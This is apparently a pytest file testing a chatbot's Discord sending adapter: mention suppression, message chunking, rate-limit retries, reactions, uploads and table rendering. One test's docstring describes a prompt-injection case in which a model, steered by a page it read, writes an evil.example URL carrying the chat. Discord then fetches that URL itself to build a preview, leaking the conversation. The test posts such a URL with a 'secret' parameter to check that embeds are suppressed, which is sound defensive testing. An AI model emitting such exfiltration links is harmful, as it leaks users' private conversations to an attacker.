"""Outbound: what the real discord.py posts to the fake Discord for the adapter's sends:
replies, no pings, 2,000-character chunks, rate limits, refusals, the capability extras."""

from __future__ import annotations

import re
from urllib.parse import unquote

import pytest

from bot.errors import ChannelError, DeliveryRejected
from bot.messages import ChatKey, OutboundMessage
from channels.base import (
    SupportsDownload,
    SupportsEdit,
    SupportsReactions,
    SupportsTyping,
    SupportsUpload,
)
from tests.fakes import discord_api

fake_discord = discord_api.fake_discord
discord_channel = discord_api.discord_channel

POST = "POST /channels/{channel_id}/messages"
DM = ChatKey("discord", "4242")
NO_PINGS: dict[str, list[str]] = {"parse": []}  # no everyone, no roles, no users, no replied_user


async def test_model_written_everyone_never_pings(discord_channel, fake_discord):
    channel, _ = await discord_channel()
    text = "@everyone @here <@&123> <@8> look at this"
    await channel.send(OutboundMessage(DM, text, reply_to="9000000000000000001"))
    [post] = fake_discord.posts(channel_id=4242)
    assert post.json["content"] == text  # sent as written, but nothing is pinged
    assert post.json["allowed_mentions"] == NO_PINGS


async def test_long_answer_with_code_is_split_in_three_balanced_parts(
    discord_channel, fake_discord
):
    channel, _ = await discord_channel()
    prose = "\n".join(f"Line {i}: " + "words " * 12 for i in range(20))  # ~1,700 chars
    code = "```python\n" + "\n".join(f"x_{i} = {i}  # value" for i in range(145)) + "\n```"
    text = f"{prose}\n\n{code}\n\nThat is all."
    assert 4400 < len(text) < 4700
    sent = await channel.send(OutboundMessage(DM, text, reply_to="9000000000000000001"))
    posts = fake_discord.posts(channel_id=4242)
    assert len(posts) == 3 and len(sent.ids) == 3
    for post in posts:
        content = post.json["content"]
        assert len(content) <= 2000
        assert len(re.findall(r"^```", content, re.M)) % 2 == 0  # every fence closed
        assert post.json["allowed_mentions"] == NO_PINGS
    assert "message_reference" in posts[0].json
    assert all("message_reference" not in p.json for p in posts[1:])
    # The code block did not fit one message: closed at the cut, reopened with its language.
    assert posts[1].json["content"].startswith("```python\n")
    assert posts[2].json["content"].startswith("```python\n")
    assert posts[2].json["content"].endswith("That is all.")


async def test_rate_limited_post_is_retried_and_delivered_once(discord_channel, fake_discord):
    channel, _ = await discord_channel()
    fake_discord.fail(POST, 429, retry_after=0.05)
    sent = await channel.send(OutboundMessage(DM, "after the wait"))
    calls = fake_discord.calls_to(POST)
    assert [c.ok for c in calls] == [False, True]
    assert [p.json["content"] for p in fake_discord.posts()] == ["after the wait"]
    assert len(sent.ids) == 1


async def test_429_without_via_is_not_a_rate_limit_and_is_retried_later(
    discord_channel, fake_discord
):
    channel, _ = await discord_channel()
    fake_discord.fail(POST, 429, retry_after=0.05, via=False)  # Cloudflare, not Discord
    with pytest.raises(ChannelError) as raised:
        await channel.send(OutboundMessage(DM, "x"))
    assert not isinstance(raised.value, DeliveryRejected)  # the outbox retries it
    assert fake_discord.posts() == []


@pytest.mark.parametrize("status", [400, 403, 404])
async def test_refusals_are_permanent(discord_channel, fake_discord, status):
    channel, _ = await discord_channel()
    fake_discord.fail(POST, status)
    with pytest.raises(DeliveryRejected):
        await channel.send(OutboundMessage(DM, "x"))


async def test_a_retry_resumes_after_the_chunks_already_posted(discord_channel, fake_discord):
    channel, _ = await discord_channel()
    msg = OutboundMessage(DM, "\n".join(["a" * 1500, "b" * 1500, "c" * 1500]))
    fake_discord.fail(POST, 429, via=False, after=1)  # the second chunk fails
    with pytest.raises(ChannelError):
        await channel.send(msg)
    sent = await channel.send(msg)  # the outbox's retry
    contents = [p.json["content"][0] for p in fake_discord.posts()]
    assert contents == ["a", "b", "c"] and len(sent.ids) == 3


async def test_typing_edit_reactions_upload(discord_channel, fake_discord):
    channel, _ = await discord_channel()
    capabilities = (SupportsTyping, SupportsEdit, SupportsReactions, SupportsUpload)
    assert all(isinstance(channel, c) for c in (*capabilities, SupportsDownload))
    await channel.typing(DM)
    [typing] = fake_discord.calls_to("POST /channels/{channel_id}/typing")
    assert typing.params["channel_id"] == "4242"
    [mid] = (await channel.send(OutboundMessage(DM, "draft"))).ids
    await channel.edit(DM, mid, "final @everyone")
    [edit] = fake_discord.calls_to("PATCH /channels/{channel_id}/messages/{message_id}")
    assert edit.params["message_id"] == mid
    assert edit.json["content"] == "final @everyone"
    assert edit.json["allowed_mentions"] == NO_PINGS
    await channel.react(DM, mid, "👍")
    await channel.unreact(DM, mid, "👍")
    route = "/channels/{channel_id}/messages/{message_id}/reactions/{emoji}/@me"
    [put] = fake_discord.calls_to("PUT " + route)
    [delete] = fake_discord.calls_to("DELETE " + route)
    assert unquote(put.params["emoji"]) == unquote(delete.params["emoji"]) == "👍"
    up = await channel.upload(DM, "report.txt", b"numbers", caption="here you go")
    upload = fake_discord.posts()[-1]
    assert upload.files == {"report.txt": b"numbers"}
    assert upload.json["content"] == "here you go"
    assert up.ids and up.ids[0] != mid


@pytest.mark.parametrize("link_previews", [False, True])
async def test_links_in_the_bots_messages_are_not_embedded(
    discord_channel, fake_discord, link_previews: bool
):
    """Discord's servers fetch a posted link to embed it, with no one clicking: a model
    steered by a page it read into writing https://evil.example/?d=<the chat> leaked it
    by itself. Answers, previews and file captions are posted with embeds suppressed,
    unless the channel's ``link_previews`` says otherwise."""
    channel, _ = await discord_channel(link_previews=link_previews)
    link = "see https://evil.example/p.png?d=secret"
    await channel.send(OutboundMessage(DM, link))
    await channel.post_preview(DM, link, None)
    await channel.upload(DM, "a.txt", b"a", link)
    posts = fake_discord.posts(channel_id=4242)
    assert len(posts) == 3
    suppressed = 0 if link_previews else 4  # SUPPRESS_EMBEDS
    assert [int(p.json.get("flags", 0)) & 4 for p in posts] == [suppressed] * 3


async def test_a_table_arrives_as_aligned_columns_in_a_code_block(discord_channel, fake_discord):
    """Discord shows no Markdown table: the model's tables reached the user as rows of
    pipes and dashes. Each is posted as a code block whose columns line up (wide CJK
    characters count twice); a table inside fenced code stays as written."""
    channel, _ = await discord_channel()
    text = (
        "Compared:\n\n| City | Country | Pop (M) |\n|:---|---|---:|\n"
        "| Paris | **France** | 2.1 |\n| 東京 | Japan | 14 |\n\n"
        "Raw:\n```\n| a | b |\n|---|---|\n```"
    )
    await channel.send(OutboundMessage(DM, text))
    [post] = fake_discord.posts(channel_id=4242)
    assert post.json["content"] == (
        "Compared:\n\n```\nCity  | Country | Pop (M)\n------+---------+--------\n"
        "Paris | France  | 2.1\n東京  | Japan   | 14\n```\n\n"
        "Raw:\n```\n| a | b |\n|---|---|\n```"
    )
